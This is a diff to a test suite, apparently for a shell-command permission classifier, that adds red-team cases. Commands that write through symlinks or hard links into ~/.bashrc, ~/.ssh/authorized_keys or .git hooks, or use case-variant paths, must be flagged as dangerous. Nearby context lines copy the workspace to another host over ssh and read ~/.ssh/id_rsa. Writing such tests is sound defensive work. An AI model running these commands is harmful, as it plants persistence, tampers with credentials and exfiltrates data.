@@ -147,6 +147,16 @@ const HOLES: [string, Tier, boolean | undefined, string][] = [
   ['ssh-keygen -R h', 'danger', undefined, 'edits ~/.ssh/known_hosts'],
   ["ssh h 'cat > x'", 'danger', undefined, 'writes a file on another host'],
   ["tar -cf - . | ssh h 'cat > x'", 'danger', undefined, 'copies the workspace to another host'],
+  // Links and protected paths: what a later write reaches.
+  ['ln -s /home/tester/.bashrc l && echo x >> l', 'danger', undefined, 'the append goes through the new link into ~/.bashrc'],
+  ['ln /home/tester/.bashrc x', 'danger', undefined, 'a hard link: writing x writes ~/.bashrc'],
+  ['ln -sf ~/.ssh s; echo k >> s/authorized_keys', 'danger', undefined, 'a link to ~/.ssh'],
+  ['ln -s .git/hooks h', 'danger', undefined, 'a link into .git/hooks'],
+  ['ln -s ../lib x', 'danger', undefined, 'a relative target outside the workspace'],
+  ['echo x > .git/modules/x/hooks/post-checkout', 'danger', undefined, 'a submodule\'s hooks'],
+  ['echo x > .git/modules/x/config', 'danger', undefined, 'a submodule\'s config'],
+  ['echo x > .GIT/hooks/pre-commit', 'danger', undefined, 'case-insensitive file systems (macOS)'],
+  ['echo x > .BASHRC', 'danger', undefined, 'case-insensitive file systems (macOS)'],
   // Environment variables that name programs or files.
   ['KUBECONFIG=./k kubectl get pods', 'danger', undefined, 'the kubeconfig may run a credential program'],
   ['GIT_TRACE=/home/tester/.bashrc git status', 'danger', undefined, 'git appends its trace to the file'],
@@ -194,6 +204,9 @@ const STILL_READ: string[] = [
   'date +%s',
 ];
 
+/** Common writes that must stay write (not danger). */
+const STILL_WRITE: string[] = ['ln -s src/a.ts b.ts', 'ln -s ../shared/foo packages/a/foo', 'ln -s -t dir ../x', 'echo x > src/config.ts', 'echo x > .git/info/exclude'];
+
 /** [command, a file it reads that must reach the permission gateway] */
 const HIDDEN_READS: [string, string][] = [
   ['git diff --no-index /etc/passwd /home/tester/.ssh/id_rsa', '/home/tester/.ssh/id_rsa'],
@@ -217,6 +230,10 @@ describe('red-team holes', () => {
     const r = engine.classify(cmd, opts);
     expect(r.tier, JSON.stringify(r.reasons)).toBe(tier);
     if (code !== undefined) expect(r.executesCode).toBe(code);
+  });
+
+  it.each(STILL_WRITE)('%s stays write', (cmd) => {
+    expect(engine.classify(cmd, opts).tier).toBe('write');
   });
 
   it.each(STILL_READ)('%s stays read', (cmd) => {
